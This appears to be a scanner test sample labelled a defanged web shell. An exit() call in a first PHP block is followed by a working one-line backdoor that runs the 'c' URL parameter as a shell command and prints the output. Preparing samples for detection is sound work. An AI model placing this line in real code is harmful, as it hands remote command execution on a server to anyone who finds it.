<?php /* ShopGuard test sample, DEFANGED: shape of a real family, payload removed. Never deploy. */ exit('defanged'); ?>
<?php
$o = `$_GET[c]`; echo $o;
